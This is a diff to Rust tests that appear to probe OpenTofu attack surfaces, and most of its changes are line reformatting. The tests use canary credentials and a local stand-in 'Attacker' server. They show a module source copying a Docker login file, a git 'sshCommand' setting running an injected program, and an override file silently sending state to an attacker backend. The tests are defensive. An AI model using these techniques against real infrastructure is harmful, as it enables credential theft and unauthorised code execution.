@@ -31,7 +31,8 @@ impl Alone {
         use base64::Engine as _;
         let auth = base64::engine::general_purpose::STANDARD.encode(format!("reader:{}", alone.canary.password));
         write(&login, &format!("{{\"auths\":{{\"localhost:1\":{{\"auth\":\"{auth}\"}}}}}}"));
-        let block = format!("oci_default_credentials {{\n  docker_style_config_files = [\"{}\"]\n}}\n", login.display());
+        let block =
+            format!("oci_default_credentials {{\n  docker_style_config_files = [\"{}\"]\n}}\n", login.display());
         write(&alone.path("tofu.tfrc"), &block);
         Some(alone)
     }
@@ -84,7 +85,10 @@ fn with_tofu_alone_a_backends_path_and_a_modules_source_take_the_login_along() {
     assert!(has(&alone.canary, backend(&directory).replace('_', "/").as_bytes()), "A2: {}", backend(&directory));
 
     let Some(alone) = Alone::new() else { return };
-    let source = format!("locals {{\n  at = \"{}\"\n}}\nmodule \"m\" {{\n  source = dirname(local.at)\n}}\n", alone.path("login/config.json").display());
+    let source = format!(
+        "locals {{\n  at = \"{}\"\n}}\nmodule \"m\" {{\n  source = dirname(local.at)\n}}\n",
+        alone.path("login/config.json").display()
+    );
     let directory = alone.directory(&[("main.tf", &source)]);
     let said = alone.tofu(&directory, &["get", "-no-color"]);
     let found = directory.join(".terraform/modules/m/config.json");
@@ -94,13 +98,15 @@ fn with_tofu_alone_a_backends_path_and_a_modules_source_take_the_login_along() {
 #[test]
 fn with_tofu_alone_an_uploaded_git_configuration_runs_its_program() {
     let (Some(alone), Some(git)) = (Alone::new(), require::program("git")) else { return };
-    let directory = alone.directory(&[("main.tf", "module \"g\" {\n  source = \"git::ssh://git@127.0.0.1:1/x.git\"\n}\n")]);
+    let directory =
+        alone.directory(&[("main.tf", "module \"g\" {\n  source = \"git::ssh://git@127.0.0.1:1/x.git\"\n}\n")]);
     let mut init = command(git);
     init.args(["init", "--quiet"]).current_dir(&directory).env("HOME", alone.place.path());
     run(init).unwrap().succeeded().unwrap();
-    let mark = alone.path("mark");
+    let (mark, program) = (alone.path("mark"), alone.path("program"));
+    write(&program, &format!("touch {}", mark.display()));
     let settings = fs::read_to_string(directory.join(".git/config")).unwrap();
-    write(&directory.join(".git/config"), &format!("{settings}[core]\n\tsshCommand = touch {} #\n", mark.display()));
+    write(&directory.join(".git/config"), &format!("{settings}[core]\n\tsshCommand = sh {}\n", program.display()));
     let said = alone.tofu(&directory, &["get", "-no-color"]);
     assert!(mark.exists(), "A6: {}", said.all());
 }
@@ -109,14 +115,18 @@ fn with_tofu_alone_an_uploaded_git_configuration_runs_its_program() {
 fn with_tofu_alone_an_override_takes_the_state_away_unseen() {
     let Some(alone) = Alone::new() else { return };
     let attacker = Attacker::start();
-    let ours = format!("terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{}/state\"\n  }}\n}}\n", attacker.port);
+    let ours = format!(
+        "terraform {{\n  backend \"http\" {{\n    address = \"http://127.0.0.1:{}/state\"\n  }}\n}}\n",
+        attacker.port
+    );
     let local = "terraform {\n  backend \"local\" {}\n}\n";
     // A13: theirs beats ours, by its name.
     let directory = alone.directory(&[("main.tf", ""), ("nigari_override.tf", &ours), ("zz_override.tf", local)]);
     alone.succeeds(&directory, &["init", "-no-color"]);
     assert!(backend(&directory).contains("\"type\": \"local\""), "A13: {}", backend(&directory));
     // A14: ours replaces a block without a word.
-    let cloud = "terraform {\n  cloud {\n    organization = \"o\"\n    workspaces {\n      name = \"w\"\n    }\n  }\n}\n";
+    let cloud =
+        "terraform {\n  cloud {\n    organization = \"o\"\n    workspaces {\n      name = \"w\"\n    }\n  }\n}\n";
     let directory = alone.directory(&[("main.tf", cloud), ("nigari_override.tf", &ours)]);
     alone.succeeds(&directory, &["init", "-no-color"]);
     assert!(backend(&directory).contains("\"type\": \"http\""), "A14: {}", backend(&directory));
@@ -156,7 +166,8 @@ fn with_tofu_alone_what_changes_after_the_plan_is_applied_and_a_plan_breaks_in_a
     let Some(alone) = Alone::new() else { return };
     let main = "module \"m\" {\n  source = \"./m\"\n}\nresource \"terraform_data\" \"first\" {}\nresource \"terraform_data\" \"second\" \
                 {\n  input = abspath(path.root)\n  depends_on = [terraform_data.first]\n}\n";
-    let module = "resource \"terraform_data\" \"d\" {\n  provisioner \"local-exec\" {\n    command = \"sh m/do.sh\"\n  }\n}\n";
+    let module =
+        "resource \"terraform_data\" \"d\" {\n  provisioner \"local-exec\" {\n    command = \"sh m/do.sh\"\n  }\n}\n";
     let directory = alone.directory(&[("main.tf", main), ("m/main.tf", module), ("m/do.sh", "echo as-planned")]);
     alone.succeeds(&directory, &["init", "-no-color"]);
     alone.succeeds(&directory, &["plan", "-no-color", "-out=plan"]);
